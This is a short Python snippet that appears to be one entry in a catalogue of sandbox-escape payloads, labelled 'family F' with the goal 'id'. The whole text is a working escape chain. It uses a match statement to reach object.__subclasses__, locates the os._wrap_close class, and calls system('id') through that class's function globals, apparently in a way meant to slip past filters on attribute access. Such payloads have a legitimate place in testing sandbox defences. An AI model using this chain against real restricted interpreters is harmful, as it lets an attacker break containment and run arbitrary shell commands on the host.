# family: F (object.__subclasses__, then a function's globals)   goal: id
match object:
    case type(__subclasses__=subs):
        for c in subs():
            if c.__name__ == "_wrap_close":
                c.__init__.__globals__["system"]("id")
